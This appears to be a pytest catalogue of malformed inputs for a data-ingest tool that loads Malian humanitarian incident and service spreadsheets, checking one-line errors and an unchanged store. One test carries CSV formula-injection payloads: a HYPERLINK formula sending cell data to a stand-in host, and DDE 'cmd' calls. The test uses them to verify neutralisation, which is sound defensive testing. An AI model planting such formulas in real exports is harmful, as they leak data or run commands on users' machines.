"""The bad-input catalogue: every bad file exits 2 with one line naming the file and the
reason, and never changes the store; per-row problems reject the row, not the file.

The files are written like the broken exports met in the field. Heavy cases (hundreds of MB,
millions of rows) run in ``python -m bench.badinput``, not here.
"""

from __future__ import annotations

import json
import os
import struct
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook

from data import ingest, store

GOOD = (
    "Date;Région;Cercle;Catégorie;Nombre de victimes\n"
    "03/02/2019;Mopti;Bandiagara;Atteinte au droit à la vie;3\n"
    "04/02/2019;Gao;Ansongo;VBG;1\n"
)
CMP = "Date;Région;Cercle;PDI;Retournés;Rapatriés\n30/09/2019;Mopti;Bandiagara;1200;300;12\n"


def _xlsx(path: Path, rows: list[list[object]], title: str = "Feuil1") -> Path:
    book = Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def _cfb(path: Path, encrypted: bool) -> Path:
    """An OLE2 compound file header and directory sector, as Excel writes for .xls files and
    for password-protected .xlsx files (whose directory lists 'EncryptedPackage')."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HH", 0x3E, 3)
    header = header.ljust(512, b"\x00")
    names = ["Root Entry", "EncryptionInfo", "EncryptedPackage"] if encrypted else ["Workbook"]
    directory = b"".join(n.encode("utf-16-le").ljust(64, b"\x00") + bytes(64) for n in names)
    path.write_bytes(header + directory.ljust(512, b"\x00") + bytes(1024))
    return path


def _text(text: str, encoding: str = "utf-8"):
    def build(path: Path) -> Path:
        path.write_bytes(text.encode(encoding))
        return path

    return build


def _bytes(data: bytes):
    def build(path: Path) -> Path:
        path.write_bytes(data)
        return path

    return build


def _missing(path: Path) -> Path:
    return path.with_name("nowhere.csv")


def _folder(path: Path) -> Path:
    path.mkdir()
    return path


def _dev_zero(path: Path) -> Path:
    path.symlink_to("/dev/zero")
    return path


def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def _old_xls(path: Path) -> Path:
    return _cfb(path.with_suffix(".xls"), encrypted=False)


def _encrypted(path: Path) -> Path:
    return _cfb(path.with_suffix(".xlsx"), encrypted=True)


def _zip_not_xlsx(path: Path) -> Path:
    path = path.with_suffix(".xlsx")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return path


def _truncated_xlsx(path: Path) -> Path:
    whole = _xlsx(path.with_suffix(".xlsx"), [["Date", "Région"], ["2020-01-01", "Mopti"]])
    whole.write_bytes(whole.read_bytes()[:300])
    return whole


def _empty_workbook(path: Path) -> Path:
    return _xlsx(path.with_suffix(".xlsx"), [])


def _xlsx_too_many_rows(path: Path) -> Path:
    rows = [["Date", "Région", "Catégorie"]] + [["2020-01-01", "Mopti", "VBG"]] * 30
    return _xlsx(path.with_suffix(".xlsx"), rows)


def _xlsx_unpacks_large(path: Path) -> Path:
    rows = [["Date", "Région", "Catégorie", "Notes"]]
    rows += [["2020-01-01", "Mopti", "VBG", "x" * 200]] * 400  # compresses ~50:1
    return _xlsx(path.with_suffix(".xlsx"), rows)


def _corrupt_sheet_xml(path: Path) -> Path:
    """A workbook whose sheet XML was cut and patched by hand: a tag left open at row 3."""
    good = _xlsx(
        path.with_name("good.xlsx"),
        [["Date", "Région", "Catégorie"], ["2020-01-01", "Mopti", "VBG"]],
    )
    target = path.with_suffix(".xlsx")
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(target, "w") as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(
                    b"</sheetData>", b'<row r="3"><c r="A3"><v>1</c></row></sheetData>'
                )
            out.writestr(info, data)
    return target


def _deep_json(path: Path) -> Path:
    path = path.with_suffix(".json")
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    return path


def _undecodable_name(path: Path) -> Path:
    target = Path(os.fsdecode(bytes(path.parent) + b"/Donn\xe9es_\xff.csv"))
    target.write_bytes(b"not;a;table\n")
    return target


def _profile_bad_toml(path: Path) -> Path:
    path.write_text(GOOD, encoding="utf-8")
    return path


WIDE = ";".join(f"c{i}" for i in range(60)) + "\n" + ";".join("1" for _ in range(60)) + "\n"
LONG_ROWS = "Date;Région;Catégorie\n" + "01/02/2020;Mopti;VBG\n" * 12

# (id, stream, builder, extra arguments, words the one-line message must contain)
CASES = [
    ("missing file", "incidents", _missing, [], "no such file"),
    ("folder", "incidents", _folder, [], "is a folder"),
    ("zero bytes", "incidents", _bytes(b""), [], "empty (0 bytes)"),
    ("blank lines only", "incidents", _text("\n\n  \n"), [], "only blank lines"),
    ("header only", "incidents", _text("Date;Région;Catégorie\n"), [], "no data rows"),
    ("png image", "incidents", _bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4), [], "binary"),
    ("pdf", "incidents", _bytes(b"%PDF-1.4\n" + bytes(range(256)) * 8), [], "binary"),
    ("gzip csv", "incidents", _bytes(b"\x1f\x8b\x08\x00" + bytes(range(256)) * 4), [], "binary"),
    ("nul bytes", "incidents", _bytes(b"Date;R\x00gion\n1;2\n"), [], "binary"),
    ("utf-16 bom", "incidents", _text(GOOD, "utf-16"), [], "UTF-16"),
    ("utf-32 bom", "incidents", _text(GOOD, "utf-32"), [], "UTF-32"),
    ("utf-16 no bom", "incidents", _text(GOOD, "utf-16-le"), [], "UTF-16"),
    ("old xls", "incidents", _old_xls, [], ".xls"),
    ("encrypted xlsx", "incidents", _encrypted, [], "password-protected"),
    ("zip not a workbook", "incidents", _zip_not_xlsx, [], "not a readable XLSX"),
    ("truncated xlsx", "incidents", _truncated_xlsx, [], "not a readable XLSX"),
    ("empty workbook", "incidents", _empty_workbook, [], "empty"),
    ("one column", "incidents", _text("Date\n2020-01-01\n"), [], "only one column"),
    ("wrong stream", "incidents", _text(CMP), [], "looks like a displacement file"),
    ("unknown headers", "incidents", _text("foo;bar\n1;2\n"), [], "the file has columns 'foo'"),
    ("html page", "incidents", _text("<html>\n<body>Erreur 404</body>\n</html>\n"), [], "column"),
    ("link to /dev/zero", "incidents", _dev_zero, [], "not a regular file"),
    ("named pipe", "incidents", _fifo, [], "not a regular file"),
    ("over max bytes", "incidents", _text(GOOD), ["--max-bytes", "50"], "over the limit"),
    ("too many columns", "incidents", _text(WIDE), ["--max-columns", "50"], "60 columns"),
    ("too many rows", "incidents", _text(LONG_ROWS), ["--max-rows", "10"], "more than 10 rows"),
    (
        "field too long",
        "incidents",
        _text("Date;Région;Catégorie\n01/02/2020;Mopti;" + "V" * 5000 + "\n"),
        ["--max-field-chars", "1000"],
        "line 2: a field is longer than 1,000",
    ),
    (
        "unterminated quote",
        "incidents",
        _text(
            'Date;Région;Catégorie\n01/02/2020;Mopti;VBG\n02/02/2020;Gao;"VBG\n03/02/2020;Gao;VBG\n'
        ),
        [],
        'line 3: a quote (") opens a field that is never closed',
    ),
    (
        "mixed utf-8 and cp1252",
        "incidents",
        _bytes("Date;Région;Catégorie\n".encode() + "01/02/2020;Ségou;VBG\n".encode("cp1252")),
        [],
        "line 2: mixes UTF-8 and Windows (cp1252)",
    ),
    (
        "duplicate date columns",
        "incidents",
        _text("Date;Région;Date;Catégorie\n01/02/2020;Mopti;02/02/2020;VBG\n"),
        [],
        "columns 1 and 3 are both named 'Date'",
    ),
    ("xlsx over max rows", "incidents", _xlsx_too_many_rows, ["--max-rows", "20"], "rows"),
    ("corrupt sheet xml", "incidents", _corrupt_sheet_xml, [], "row 3: cannot be read (ParseError"),
    ("json nested too deep", "incidents", _deep_json, [], "nested too deeply"),
    (
        "json not records",
        "incidents",
        _text('{"a": 1, "b": 2}'),
        [],
        "JSON without a list of records",
    ),
    (
        "json syntax error",
        "incidents",
        _text('[{"Date": "2020-01-01",}]'),
        [],
        "line 1: not valid JSON",
    ),
    ("xlsx unpacks large", "incidents", _xlsx_unpacks_large, ["--max-bytes", "40000"], "unpacks"),
    (
        "no readable date",
        "incidents",
        _text("Date;Région;Catégorie\nhier;Mopti;VBG\n??;Gao;VBG\n"),
        [],
        "none of the 2 rows could be read; row 1, column 'Date'",
    ),
    (
        "every date before 1677",
        "incidents",
        _text("Date;Région;Catégorie\n01/01/1500;Mopti;VBG\n"),
        [],
        "outside the plausible years",
    ),
    (
        "every date after 2262",
        "incidents",
        _text("Date;Région;Catégorie\n2300-01-01;Mopti;VBG\n"),
        [],
        "outside the plausible years",
    ),
    (
        "every count 10^23",
        "incidents",
        _text(
            "Date;Région;Catégorie;Nombre de victimes\n01/02/2020;Mopti;VBG;"
            + "1"
            + "0" * 23
            + "\n"
        ),
        [],
        "implausibly large",
    ),
    (
        "map unknown field",
        "incidents",
        _text(GOOD),
        ["--map", "Catégorie=colour"],
        "no field 'colour'",
    ),
    ("map absent column", "incidents", _text(GOOD), ["--map", "Kind=category"], "no column 'Kind'"),
    ("map without =", "incidents", _text(GOOD), ["--map", "Catégorie"], "expected"),
    ("unknown profile", "incidents", _text(GOOD), ["--profile", "nope"], "no mapping profile"),
    (
        "profile of another stream",
        "incidents",
        _text(GOOD),
        ["--profile", "dtm_api"],
        "is for displacement",
    ),
    ("profile not toml", "incidents", _text(GOOD), ["--profile", "PROFILE"], "cannot be read"),
    ("non-utf-8 file name", "incidents", _undecodable_name, [], "Donn\ufffdes_\ufffd.csv"),
    (
        "missing boundaries",
        "incidents",
        _text(GOOD),
        ["--boundaries", "/nonexistent/cod"],
        "boundaries",
    ),
]


@pytest.fixture(scope="module")
def seeded_store(tmp_path_factory):
    """A store holding one good incidents version, as on a running server."""
    folder = tmp_path_factory.mktemp("store")
    good = folder.parent / "good.csv"
    good.write_text(GOOD, encoding="utf-8")
    previous = os.environ.get(store.ENV)
    os.environ[store.ENV] = str(folder)
    try:
        assert ingest.main(["incidents", str(good)]) == 0
    finally:
        if previous is None:
            os.environ.pop(store.ENV)
        else:
            os.environ[store.ENV] = previous
    return folder


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_catalogue_has_at_least_forty_cases():
    assert len(CASES) >= 40


@pytest.mark.parametrize(
    ("stream", "build", "extra", "words"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_bad_input_exits_2_with_one_line_and_store_unchanged(
    tmp_path, monkeypatch, capsys, seeded_store, stream, build, extra, words
):
    monkeypatch.setenv(store.ENV, str(seeded_store))
    profile = tmp_path / "PROFILE.toml"
    profile.write_text('stream = "incidents"\n[columns\n', encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    before = _snapshot(seeded_store)
    path = build(tmp_path / "input.csv")
    code = ingest.main([stream, str(path), *[a.replace("PROFILE", str(profile)) for a in extra]])
    out, err = capsys.readouterr()
    assert code == 2, err
    assert out == ""
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert words in lines[0]
    assert "unexpected" not in lines[0] and "Traceback" not in err
    assert _snapshot(seeded_store) == before


# -- per-row problems reject the row, not the file --------------------------------------------


def test_bad_values_reject_their_rows_only(tmp_path, capsys):
    path = tmp_path / "suivi.csv"
    path.write_text(
        "Date;Région;Catégorie;Nombre de victimes\n"
        "01/01/0001;Mopti;VBG;1\n"
        "01/01/1500;Mopti;VBG;1\n"
        "2300-01-01;Mopti;VBG;1\n"
        "01/02/2020;Mopti;VBG;100000000000000000000000\n"
        "01/02/2020;Mopti;VBG;2\n"
        "15/03/20;Gao;VBG;1\n",
        encoding="utf-8",
    )
    assert ingest.main(["incidents", str(path), "--dry-run", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    reasons = {r["row"]: r["reason"] for r in report["rejected"]}
    assert set(reasons) == {1, 2, 3, 4}
    assert "'01/01/0001' is outside the plausible years" in reasons[1]  # not read as 2001
    assert "implausibly large" in reasons[4]
    assert report["rows_accepted"] == 2
    assert report["totals_by_adm1"]["ML05"]["victims"] == 2


def test_excel_dates_out_of_range_and_huge_counts_reject_rows(tmp_path, capsys):
    from datetime import datetime

    path = _xlsx(
        tmp_path / "suivi.xlsx",
        [
            ["Date", "Région", "Catégorie", "Nombre de victimes"],
            [datetime(1600, 5, 1), "Mopti", "VBG", 1],
            [datetime(2020, 5, 1), "Mopti", "VBG", 10**23],
            [datetime(2020, 5, 2), "Gao", "VBG", 4],
        ],
    )
    assert ingest.main(["incidents", str(path), "--dry-run", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert [r["row"] for r in report["rejected"]] == [1, 2]
    assert report["rows_accepted"] == 1


def test_an_excel_date_serial_out_of_range_rejects_its_row_quietly(tmp_path, capsys):
    book = Workbook()
    sheet = book.active
    sheet.append(["Date", "Région", "Catégorie"])
    sheet.append([99_999_999, "Mopti", "VBG"])
    sheet["A2"].number_format = "dd/mm/yyyy"
    sheet.append(["2020-01-02", "Gao", "VBG"])
    path = tmp_path / "suivi.xlsx"
    book.save(path)
    assert ingest.main(["incidents", str(path), "--dry-run", "--json"]) == 0
    captured = capsys.readouterr()
    assert captured.err == ""  # no openpyxl warning on the console
    assert [r["row"] for r in json.loads(captured.out)["rejected"]] == [1]


def test_non_utf8_file_name_is_stored_with_its_report(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv(store.ENV, str(tmp_path / "store"))
    path = Path(os.fsdecode(bytes(tmp_path) + b"/suivi_S\xe9gou.csv"))
    path.write_text(GOOD, encoding="utf-8")
    assert ingest.main(["incidents", str(path)]) == 0
    assert "suivi_S\ufffdgou.csv" in capsys.readouterr().out
    [version] = store.versions("incidents")
    assert store.report("incidents", version)["report"]["file"] == "suivi_S\ufffdgou.csv"


def test_a_failed_store_write_leaves_no_orphan_version(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv(store.ENV, str(tmp_path / "store"))
    (tmp_path / "store" / "incidents" / "ACTIVE").mkdir(parents=True)  # cannot be replaced
    path = tmp_path / "suivi.csv"
    path.write_text(GOOD, encoding="utf-8")
    assert ingest.main(["incidents", str(path)]) == 1
    assert "could not write" in capsys.readouterr().err
    assert store.versions("incidents") == []
    versions = tmp_path / "store" / "incidents" / "versions"
    assert not versions.exists() or not list(versions.iterdir())


def test_unmapped_duplicate_headers_are_harmless(tmp_path, capsys):
    path = tmp_path / "suivi.csv"
    path.write_text(
        "Date;Région;Catégorie;Remarque;Remarque\n01/02/2020;Mopti;VBG;a;b\n", encoding="utf-8"
    )
    assert ingest.main(["incidents", str(path), "--dry-run"]) == 0


def test_formula_cells_are_kept_flagged_and_neutralised_in_exports(tmp_path, capsys):
    path = tmp_path / "3w.csv"
    path.write_text(
        "Organisation Accronyme,Nom Organisation,admin2Pcod,Cercle,Cluster\n"
        'HY,"=HYPERLINK(""http://x.example/?d=""&A1,""Cliquez"")",ML0501,Bandiagara,Protection\n'
        "CM,=cmd|' /C calc'!A0,ML0501,Bandiagara,Protection\n"
        "OK,-2+3+cmd|' /C calc'!A0,ML0501,Bandiagara,Protection\n"
        "IRC,International Rescue Committee,ML0501,Bandiagara,Protection\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    assert ingest.main(["services", str(path), "--dry-run", "--json", "--output", str(out)]) == 0
    report = json.loads(capsys.readouterr().out)
    assert [(f["row"], f["column"]) for f in report["flagged"]] == [
        (1, "Nom Organisation"),
        (2, "Nom Organisation"),
        (3, "Nom Organisation"),
    ]
    assert any("formulas" in w for w in report["warnings"])
    written = pd.read_csv(out, dtype=str, keep_default_na=False)
    names = written["org_name"].tolist()
    assert names[0].startswith("'=HYPERLINK(") and names[1] == "'=cmd|' /C calc'!A0"
    assert names[2].startswith("'-2+3") and names[3] == "International Rescue Committee"


def test_3w_formula_error_text_is_missing_not_a_formula(tmp_path, capsys):
    path = tmp_path / "3w.csv"
    path.write_text(
        "Organisation Accronyme,Nom Organisation,admin2Pcod,admin3Pcod,Cluster\n"
        "IRC,International Rescue Committee,ML0501,=#N/A,Protection\n",
        encoding="utf-8",
    )
    assert ingest.main(["services", str(path), "--dry-run", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["flagged"] == []


def test_heavy_bench_quick_mode_runs(capsys):
    """The benchmark of the heavy cases cannot rot: its quick cases run here (a few seconds)."""
    from bench.badinput import main

    assert main(["--quick"]) == 0
    assert "all cases exit 2 with one line" in capsys.readouterr().out
